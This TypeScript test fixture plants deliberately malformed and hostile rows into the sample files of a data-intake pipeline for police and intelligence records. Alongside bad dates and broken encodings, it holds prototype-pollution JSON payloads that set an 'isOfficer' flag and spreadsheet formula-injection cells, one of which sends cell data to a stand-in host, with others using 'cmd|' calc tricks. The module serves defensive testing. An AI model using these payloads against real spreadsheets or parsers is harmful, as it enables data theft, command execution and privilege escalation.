// Wrong and hostile rows, kept on purpose: which source sends them, where, and what is wrong. Each is listed in expected-rejections.csv.
import type { Cells, OddRow } from './row-file.ts'
import type { FileDefinition } from './source-definition.ts'

/** What is wrong, in the words of intake's own list of rejections. */
export type WrongKind =
  | 'bad-bytes'
  | 'shifted-columns'
  | 'unsafe-json'
  | 'not-json'
  | 'duplicate-key'
  | 'no-key'
  | 'unknown-code'
  | 'bad-date'
  | 'bad-time'
  | 'impossible-birth-date'
  | 'bad-grade'
  | 'bad-handling'
  | 'above-the-ceiling'
  | 'unknown-marking'

export type SpoiltRow = { readonly kind: WrongKind; readonly row: { readonly cells: Cells } | { readonly odd: OddRow } }

type Spoil = {
  readonly source: string
  readonly file?: string
  /** How many rows stand before it. */
  readonly after: number
  readonly kind: WrongKind
  readonly how: (cells: Cells, file: FileDefinition) => SpoiltRow['row']
}

const otherKey = (cells: Cells, file: FileDefinition): Cells => ({ ...cells, [file.key]: `${cells[file.key] ?? ''}9` })
const altered =
  (wrong: Cells) =>
  (cells: Cells, file: FileDefinition): SpoiltRow['row'] => ({ cells: { ...otherKey(cells, file), ...wrong } })
const set = (column: string, text: string) => altered({ [column]: text })
const inOrder = (cells: Cells, file: FileDefinition): string[] => file.columns.map(column => cells[column] ?? '')
const shifted = (cells: Cells, file: FileDefinition): SpoiltRow['row'] => ({
  odd: { cells: ['', ...inOrder(otherKey(cells, file), file)] },
})
const cutShort = (cells: Cells, file: FileDefinition): SpoiltRow['row'] => ({
  odd: { cells: inOrder(otherKey(cells, file), file).slice(0, -2) },
})
const again = (cells: Cells): SpoiltRow['row'] => ({ cells })
const withBytes =
  (...bytes: readonly number[]) =>
  (cells: Cells, file: FileDefinition): SpoiltRow['row'] => {
    const [first = '', ...rest] = inOrder(otherKey(cells, file), file).map(cell => cell.replaceAll('"', ''))
    const text = [first, ...rest.map(() => '')].join(file.delimiter ?? ',')
    return { odd: { bytes: Buffer.concat([Buffer.from(text), Buffer.from(bytes)]) } }
  }
const jsonText = (text: string) => (): SpoiltRow['row'] => ({ odd: { text } })

const plan: readonly Spoil[] = [
  {
    source: 'estuary-nominals',
    file: 'nominals.csv',
    after: 9,
    kind: 'impossible-birth-date',
    how: set('DOB', '14/02/2031'),
  },
  { source: 'estuary-nominals', file: 'nominals.csv', after: 17, kind: 'bad-date', how: set('DOB', '31/02/1990') },
  { source: 'estuary-nominals', file: 'nominals.csv', after: 23, kind: 'duplicate-key', how: again },
  { source: 'estuary-nominals', file: 'nominals.csv', after: 31, kind: 'shifted-columns', how: shifted },
  { source: 'estuary-nominals', file: 'nominals.csv', after: 38, kind: 'bad-bytes', how: withBytes(0xc3, 0x28) },
  { source: 'estuary-nominals', file: 'nominals.csv', after: 41, kind: 'unknown-code', how: set('Sex', 'X9') },
  { source: 'estuary-intelligence', after: 4, kind: 'bad-grade', how: set('grading', '4ZQ') },
  { source: 'estuary-intelligence', after: 8, kind: 'above-the-ceiling', how: set('gsc', 'SECRET') },
  {
    source: 'estuary-intelligence',
    after: 10,
    kind: 'unsafe-json',
    how: jsonText('{"itemRef":"EI-X1","__proto__":{"isOfficer":true},"text":"A field that is none"}'),
  },
  {
    source: 'estuary-intelligence',
    after: 12,
    kind: 'unsafe-json',
    how: jsonText('{"itemRef":"EI-X2","constructor":{"prototype":{"isOfficer":true}},"text":"A field that is none"}'),
  },
  {
    source: 'estuary-intelligence',
    after: 13,
    kind: 'not-json',
    how: jsonText('{"itemRef":"EI-X3","text":"The line stops'),
  },
  {
    source: 'national-intelligence',
    after: 3,
    kind: 'bad-handling',
    how: altered({ evaluation: '2BC', action: 'A1', sanitisation: 'S2', instructions: '' }),
  },
  { source: 'national-intelligence', after: 6, kind: 'above-the-ceiling', how: set('marking', 'TOP SECRET') },
  { source: 'wolds-intelligence', after: 5, kind: 'bad-grade', how: set('Eval', '2F') },
  {
    source: 'wolds-intelligence',
    after: 9,
    kind: 'bad-handling',
    how: altered({ Eval: '2BC', Act: '', San: '', Conditions: '' }),
  },
  { source: 'downland-custody', after: 8, kind: 'bad-date', how: set('Date of Birth', '30Feb1988') },
  {
    source: 'downland-custody',
    after: 14,
    kind: 'no-key',
    how: (cells, file) => ({ cells: { ...cells, [file.key]: '' } }),
  },
  { source: 'northmoor-nominals', after: 7, kind: 'unknown-code', how: set('SEX', '7') },
  { source: 'northmoor-nominals', after: 12, kind: 'shifted-columns', how: cutShort },
  { source: 'ways-cameras', after: 20, kind: 'bad-time', how: set('READ_TS', '20260231T101500Z') },
  { source: 'frontier-passengers', after: 6, kind: 'impossible-birth-date', how: set('DateOfBirth', '2029-07-01') },
  { source: 'residence-arrivals', after: 11, kind: 'unknown-code', how: set('VULN', 'Q') },
  { source: 'arrivals-debrief', after: 5, kind: 'bad-time', how: set('interview.at', '2026-13-45 10:00') },
  { source: 'customs-declarations', after: 6, kind: 'duplicate-key', how: again },
  { source: 'shore-rescue-incidents', after: 4, kind: 'unknown-marking', how: set('Marking', 'COSMIC') },
  { source: 'finance-reports', after: 5, kind: 'shifted-columns', how: shifted },
  { source: 'taskforce-returns', after: 9, kind: 'unknown-code', how: set('outcome', 'vanished') },
]

const spoils = new Map<string, readonly Spoil[]>(
  [...new Set(plan.map(spoil => spoil.source))].map(source => [source, plan.filter(spoil => spoil.source === source)]),
)

/** The wrong rows that come after so many rows of this file, made from the row just written. */
export const spoiltAfter = (source: string, file: FileDefinition, rows: number, cells: Cells): readonly SpoiltRow[] =>
  (spoils.get(source) ?? [])
    .filter(spoil => spoil.after === rows && (spoil.file ?? file.path) === file.path)
    .map(spoil => ({ kind: spoil.kind, row: spoil.how(cells, file) }))

/** Cells that a spreadsheet would run as a formula: they are text, load as text, and are disarmed where they are exported. */
const seasonings: readonly {
  readonly source: string
  readonly row: number
  readonly column: string
  readonly text: string
}[] = [
  {
    source: 'estuary-nominals',
    row: 12,
    column: 'Remarks',
    text: '=HYPERLINK("http://invented.example/?x="&A1;"see")',
  },
  { source: 'estuary-nominals', row: 19, column: 'Remarks', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { source: 'fair-work-inspections', row: 8, column: 'Notes', text: '+cmd|invented' },
  {
    source: 'downland-incidents',
    row: 6,
    column: 'text',
    text: '-2+3+cmd|invented: caller sounded drunk,\nline broke off',
  },
  {
    source: 'northmoor-calls',
    row: 9,
    column: 'LOG',
    text: 'Caller says "white van", two lines:\n1) no plates\n2) =2+2',
  },
]

export const seasoned = (source: string, file: FileDefinition, rows: number, cells: Cells): Cells => {
  const found = seasonings.find(
    entry => entry.source === source && entry.row === rows && file.columns.includes(entry.column),
  )
  return found ? { ...cells, [found.column]: found.text } : cells
}
